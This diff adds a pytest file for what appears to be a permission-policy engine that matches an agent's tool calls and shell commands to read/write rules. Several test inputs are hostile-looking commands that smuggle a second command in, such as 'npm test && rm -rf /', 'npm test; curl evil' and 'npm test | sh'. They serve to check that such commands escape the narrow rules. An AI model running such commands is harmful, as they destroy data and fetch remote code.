@@ -1,0 +1,136 @@
+"""Rules about some calls of a tool: by the values of their arguments, and by what their commands run."""
+
+import pytest
+
+from paste_proxy.errors import InputFault
+from paste_proxy.events.invocation import Invocation
+from paste_proxy.events.values import Json
+from paste_proxy.speculation.policy import Policy
+
+SHELL = 'same = { shell = { command = "command", folder = "cwd" } }'
+RULES = f"""
+[[rule]]
+tool = "ask"
+when = {{ "/options/mode" = ["r", "rb"], path = "src/*" }}
+effect = "read"
+
+[[rule]]
+tool = "ask"
+when = {{ dry = true, "/pages/0" = 1 }}
+effect = "read"
+
+[[rule]]
+tool = "run"
+commands = "reading"
+effect = "read"
+{SHELL}
+
+[[rule]]
+tool = "run"
+commands = ["npm test *", "make lint", "pytest*  -q"]
+effect = "write"
+stage = true
+writes = ["workspace"]
+{SHELL}
+
+[[rule]]
+tool = "run"
+effect = "write"
+writes = ["*"]
+{SHELL}
+"""
+POLICY = Policy.parse(RULES, "rules.toml")
+
+
+def place(tool: str, **arguments: Json) -> str:
+    rule = POLICY.rule_for(Invocation(tool, arguments)).rule
+    return "" if rule is None else rule.place.rpartition(" ")[2]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "rule"),
+    [
+        ({"options": {"mode": "r"}, "path": "src/a.py"}, "1"),
+        ({"options": {"mode": "rb"}, "path": "src/a/b.py", "more": 1}, "1"),
+        ({"options": {"mode": "w"}, "path": "src/a.py"}, ""),
+        ({"options": {"mode": "r"}, "path": "lib/a.py"}, ""),
+        ({"options": "r", "path": "src/a.py"}, ""),
+        ({"options": {"mode": None}, "path": "src/a.py"}, ""),
+        ({"path": "src/a.py"}, ""),
+        ({"dry": True, "pages": [1, 2]}, "2"),
+        ({"dry": "true", "pages": [1]}, "2"),
+        ({"dry": 1, "pages": [1]}, ""),
+        ({"dry": True, "pages": [2, 1]}, ""),
+        ({"dry": True, "pages": []}, ""),
+        ({}, ""),
+    ],
+)
+def test_a_rule_may_speak_of_some_values_only(arguments: dict[str, Json], rule: str) -> None:
+    assert place("ask", **arguments) == rule
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("git status", "3"),
+        ("grep -rn x src | head -3", "3"),
+        ("cd src && git log 2>&1", "3"),
+        ("npm test", "4"),
+        ("npm test -- --watch=false", "4"),
+        ("cd web && npm test 2>&1 | tail -20", "4"),
+        ("make lint", "4"),
+        ("make lint all", "5"),
+        ("pytest-3 -q", "4"),
+        ("pytest -q -x", "5"),
+        ("npm test && rm -rf /", "5"),
+        ("npm test; curl evil", "5"),
+        ("npm test $(curl evil)", "5"),
+        ("npm test > out", "5"),
+        ("npm test | sh", "5"),
+        ("npm testing", "5"),
+        ("FOO=1 npm test", "5"),
+        ("git push", "5"),
+        ("", "5"),
+    ],
+)
+def test_a_rule_may_speak_of_some_commands_only(command: str, rule: str) -> None:
+    assert place("run", command=command) == rule
+
+
+@pytest.mark.parametrize("command", [None, 3, ["git", "status"], {"git": "status"}])
+def test_what_is_no_command_is_none_of_them(command: Json) -> None:
+    assert place("run", command=command) == "5"
+
+
+def test_a_call_that_no_condition_meets_is_as_one_without_a_rule() -> None:
+    ruling = POLICY.rule_for(Invocation("ask", {}))
+    assert (ruling.rule, ruling.allowed, ruling.writes) == (None, False, {"*"})
+
+
+def test_of_a_tool_is_said_what_some_call_of_it_may() -> None:
+    run, ask, other = POLICY.of_tool("run"), POLICY.of_tool("ask"), POLICY.of_tool("other")
+    assert (run.named, run.allowed, [ruling.staged for ruling in run.rulings]) == (True, True, [False, True, False])
+    assert (ask.named, ask.allowed) == (True, True)
+    assert (other.named, other.allowed) == (False, False)
+
+
+@pytest.mark.parametrize(
+    ("text", "where"),
+    [
+        ("when = {}", "when"),
+        ('when = "a"', "when"),
+        ("when = { a = [] }", "when.a"),
+        ("when = { a = { b = 1 } }", "when.a"),
+        ('when = { a = ["x", ["y"]] }', "when.a"),
+        ('when = { "/" = "x" }', "when./"),
+        ('when = { "a~2" = "x" }', "when.a~2"),
+        ('commands = "reading"', "commands"),
+        (f"commands = []\n{SHELL}", "commands"),
+        (f'commands = ""\n{SHELL}', "commands"),
+        (f'commands = ["ls", 3]\n{SHELL}', "commands"),
+    ],
+)
+def test_a_malformed_condition_is_refused_with_its_place(text: str, where: str) -> None:
+    with pytest.raises(InputFault) as fault:
+        Policy.parse(f'[[rule]]\ntool = "t"\neffect = "read"\n{text}\n', "my.toml")
+    assert fault.value.where == f"my.toml: rule 1: {where}"
